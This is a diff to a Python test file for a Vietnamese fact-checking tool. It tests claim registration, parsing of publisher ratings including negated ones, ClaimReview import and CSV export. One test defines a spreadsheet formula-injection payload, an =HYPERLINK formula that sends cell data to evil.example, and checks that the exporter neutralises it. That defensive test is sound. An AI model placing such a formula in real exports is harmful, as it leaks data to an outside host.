@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 
@@ -10,7 +12,7 @@ import pytest
 
 from api.claims_feed import ClaimsFeed
 from api.security import Principal
-from index.claim_exchange import map_rating
+from index.claim_exchange import Reading, map_rating, read_rating
 from index.claims import (
     AUTO,
     ClaimDraft,
@@ -104,7 +106,7 @@ def test_a_false_decision_creates_a_claim_and_suggests_recent_repeats(feed, stor
         note="UBND tỉnh đã bác bỏ",
         evidence=["https://lamdong.gov.vn/bac-bo"],
     )
-    feed(judged, command, REVIEWER)
+    feed(judged, command, REVIEWER, f"{judged.id}:1")
     (claim_id,) = feed.register.claims_of_item(judged.id)
     claim = feed.register.get(claim_id)
     assert claim.statement == RUMOUR_TITLE and claim.verdict is Verdict.FALSE
@@ -120,6 +122,7 @@ def test_a_false_decision_creates_a_claim_and_suggests_recent_repeats(feed, stor
         repeat,
         ReviewCommand(action=ReviewAction.DECIDE, outcome="misleading", note="Bản sao"),
         REVIEWER,
+        f"{repeat.id}:1",
     )
     assert feed.register.claims_of_item(repeat.id) == [claim_id]
     assert feed.register.get(claim_id).evidence[-1] == "Bản sao"
@@ -127,9 +130,9 @@ def test_a_false_decision_creates_a_claim_and_suggests_recent_repeats(feed, stor
 
     # The official response becomes the rebuttal; reopening the item takes it off.
     response = OfficialResponse(url="https://lamdong.gov.vn/tra-loi", agency="UBND tỉnh")
-    feed(judged, ReviewCommand(action=ReviewAction.RESPOND, response=response), REVIEWER)
+    feed(judged, ReviewCommand(action=ReviewAction.RESPOND, response=response), REVIEWER, "j:2")
     assert feed.register.get(claim_id).rebuttal == response
-    feed(judged, ReviewCommand(action=ReviewAction.REOPEN, reason="Nhầm tin"), REVIEWER)
+    feed(judged, ReviewCommand(action=ReviewAction.REOPEN, reason="Nhầm tin"), REVIEWER, "j:3")
     assert judged.id not in {i.item_id for i in feed.register.get(claim_id).items}
     (unlink,) = feed.audit_log.entries(action="claim.unlink")
     assert unlink.target == claim_id and unlink.detail["reason"] == "Nhầm tin"
@@ -138,8 +141,8 @@ def test_a_false_decision_creates_a_claim_and_suggests_recent_repeats(feed, stor
 def test_other_decisions_leave_the_register_alone(feed, store):
     item = make_document("https://fb.example/p/9", RUMOUR_TITLE, RUMOUR_TEXT)
     store.upsert([item])
-    feed(item, ReviewCommand(action=ReviewAction.DECIDE, outcome="accurate"), REVIEWER)
-    feed(item, ReviewCommand(action=ReviewAction.CLAIM), REVIEWER)
+    feed(item, ReviewCommand(action=ReviewAction.DECIDE, outcome="accurate"), REVIEWER, "i:1")
+    feed(item, ReviewCommand(action=ReviewAction.CLAIM), REVIEWER, "i:2")
     assert feed.register.search(None, 10, 0)[0] == 0
 
 
@@ -152,10 +155,88 @@ def test_other_decisions_leave_the_register_alone(feed, store):
         ("Gây hiểu lầm", Verdict.MISLEADING),
         ("True", None),
         ("Đúng", None),
+        ("Not false", None),
+        ("NOT FALSE.", None),
+        ("Không sai", None),
+        ("Khong sai", None),
+        ("Không phải tin giả", None),
+        ("khong phai tin gia", None),
+        ("Chưa chắc", None),
+        ("Không đúng", Verdict.FALSE),
+        ("Tin giả", Verdict.FALSE),
+        ("Pants on Fire!", Verdict.FALSE),
     ],
 )
 def test_publishers_ratings_map_to_our_verdicts(rating, verdict):
     assert map_rating(rating) == verdict
+
+
+@pytest.mark.parametrize(
+    ("rating", "reading"),
+    [
+        ("Not false", Reading.TRUE),
+        ("Không sai", Reading.TRUE),
+        ("Không phải tin giả", Reading.TRUE),
+        ("Chưa chắc", Reading.UNPROVEN),
+        ("Sai một phần", Reading.MISLEADING),
+        ("Tin này sai bét, đừng tin", None),  # a sentence, not a rating we know
+        ("Hoàn toàn không sai", None),
+    ],
+)
+def test_ratings_are_read_whole_so_negations_are_not_their_opposite(rating, reading):
+    assert read_rating(rating) is reading
+
+
+def test_ratings_not_false_are_never_registered_and_unknown_ones_are_counted(api_client, tmp_path):
+    """The reviewed claims of the issue: publishers that said 'not false' in three ways."""
+
+    def review(statement: str, rating: dict) -> dict:
+        return {
+            "@context": "https://schema.org",
+            "@type": "ClaimReview",
+            "claimReviewed": statement,
+            "author": {"@type": "Organization", "name": "Báo Kiểm chứng"},
+            "url": f"https://kiemchung.example.vn/{len(statement)}-{rating}",
+            "reviewRating": {"@type": "Rating", **rating},
+        }
+
+    reviews = [
+        review("Đà Lạt miễn phí gửi xe dịp Tết", {"alternateName": "Not false"}),
+        review("Lâm Đồng tăng lương tối thiểu vùng", {"alternateName": "Không sai"}),
+        review("Cao tốc Tân Phú Bảo Lộc thông xe", {"alternateName": "Không phải tin giả"}),
+        review("Hồ Xuân Hương bị lấp", {"alternateName": "Tin giả"}),
+        review("Giá điện tăng gấp đôi từ tháng sau", {"alternateName": "Hơi sai sai"}),
+        review("Đèo Prenn đóng cửa cả năm", {"alternateName": "Chưa chắc"}),
+        review("Đà Lạt cấm xe máy vào trung tâm", {"ratingValue": 1, "bestRating": 5}),
+        review("Bảo Lộc thành phố trực thuộc trung ương", {"ratingValue": 5, "bestRating": 5}),
+        review("Lâm Đồng sáp nhập ba tỉnh", {"ratingValue": 9, "bestRating": 5}),
+    ]
+    body = json.dumps(reviews, ensure_ascii=False).encode()
+    response = api_client.post(
+        "/api/claims/import", content=body, headers={"Content-Type": "application/ld+json"}
+    )
+    assert response.status_code == 200, response.text
+    assert response.json() == {
+        "created": 2,
+        "unchanged": 0,
+        "skipped": 5,
+        "unknown": 2,
+        "unknown_ratings": ["Hơi sai sai", "9"],
+    }
+    registered = {c["statement"] for c in api_client.get("/api/claims").json()["claims"]}
+    assert registered == {"Hồ Xuân Hương bị lấp", "Đà Lạt cấm xe máy vào trung tâm"}
+
+    from typer.testing import CliRunner
+
+    from mediawatch.cli import app
+
+    file = tmp_path / "reviews.jsonld"
+    file.write_bytes(body)
+    env = {"MEDIAWATCH_DATA_DIR": str(tmp_path / "cli")}
+    result = CliRunner().invoke(app, ["claims", "import", str(file)], env=env)
+    assert result.exit_code == 0, result.output
+    assert "Đã nhập 2 khẳng định mới" in result.output and "5 bỏ qua" in result.output
+    assert "2 bỏ qua vì không hiểu đánh giá" in result.output and "Hơi sai sai" in result.output
 
 
 def test_claimreview_import_is_idempotent_and_exports_our_claims(api_client, live_api, store):
@@ -163,9 +244,15 @@ def test_claimreview_import_is_idempotent_and_exports_our_claims(api_client, liv
     headers = {"Content-Type": "application/ld+json"}
     first = api_client.post("/api/claims/import", content=sample, headers=headers)
     assert first.status_code == 200, first.text
-    assert first.json() == {"created": 2, "unchanged": 0, "skipped": 1}
+    assert first.json() == {
+        "created": 2,
+        "unchanged": 0,
+        "skipped": 1,
+        "unknown": 0,
+        "unknown_ratings": [],
+    }
     again = api_client.post("/api/claims/import", content=sample, headers=headers)
-    assert again.json() == {"created": 0, "unchanged": 2, "skipped": 1}
+    assert again.json() | {"unchanged": 2, "created": 0} == again.json()
     listed = api_client.get("/api/claims", params={"q": "thu hoi dat"}).json()
     (imported,) = listed["claims"]
     assert imported["origin"] == "import:Trung tâm Xử lý tin giả Việt Nam"
@@ -333,3 +420,59 @@ def test_evidence_added_at_once_from_two_workers_is_all_kept(settings):
         for n, link in enumerate(links):
             pool.submit((first if n % 2 else second).add_evidence, claim.id, [link], "an")
     assert sorted(first.get(claim.id).evidence) == sorted(links)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Xem")'
+
+
+def test_claims_csv_export_defuses_formulas_in_the_api_and_the_cli(api_client, settings, tmp_path):
+    register = ClaimRegister(settings.claims_path)
+    register.create(
+        ClaimDraft(statement=FORMULA, verdict="false", evidence=["+1 bằng chứng"]), "an"
+    )
+    exported = api_client.get("/api/claims/export", params={"format": "csv"})
+    assert exported.status_code == 200
+    (row,) = csv.DictReader(io.StringIO(exported.text))
+    assert row["statement"] == "'" + FORMULA and row["evidence"] == "'+1 bằng chứng"
+
+    from typer.testing import CliRunner
+
+    from mediawatch.cli import app
+
+    out = tmp_path / "claims.csv"
+    env = {"MEDIAWATCH_DATA_DIR": str(settings.data_dir)}
+    result = CliRunner().invoke(
+        app, ["claims", "export", "--format", "csv", "-o", str(out)], env=env
+    )
+    assert result.exit_code == 0, result.output
+    (row,) = csv.DictReader(out.open(encoding="utf-8"))
+    assert row["statement"] == "'" + FORMULA
+
+
+@pytest.mark.parametrize("publisher", [5, {"name": "Báo A"}, ["Báo A"], True])
+def test_a_publisher_that_is_not_text_is_refused_naming_the_field_and_row(
+    api_client, tmp_path, publisher
+):
+    rows = [
+        {"statement": "Giá điện tăng gấp đôi", "verdict": "false", "publisher": "Báo A"},
+        {"statement": "Đèo Prenn đóng cửa", "verdict": "false", "publisher": publisher},
+    ]
+    body = json.dumps(rows, ensure_ascii=False).encode()
+    response = api_client.post(
+        "/api/claims/import", content=body, headers={"Content-Type": "application/json"}
+    )
+    assert response.status_code == 422, response.text
+    detail = response.json()["detail"]
+    assert "mục 2" in detail and "publisher" in detail
+    assert api_client.get("/api/claims").json()["total"] == 0
+
+    from typer.testing import CliRunner
+
+    from mediawatch.cli import app
+
+    file = tmp_path / "claims.json"
+    file.write_bytes(body)
+    env = {"MEDIAWATCH_DATA_DIR": str(tmp_path / "data")}
+    result = CliRunner().invoke(app, ["claims", "import", str(file)], env=env)
+    assert result.exit_code == 2, result.output
+    assert "mục 2" in result.output and "publisher" in result.output
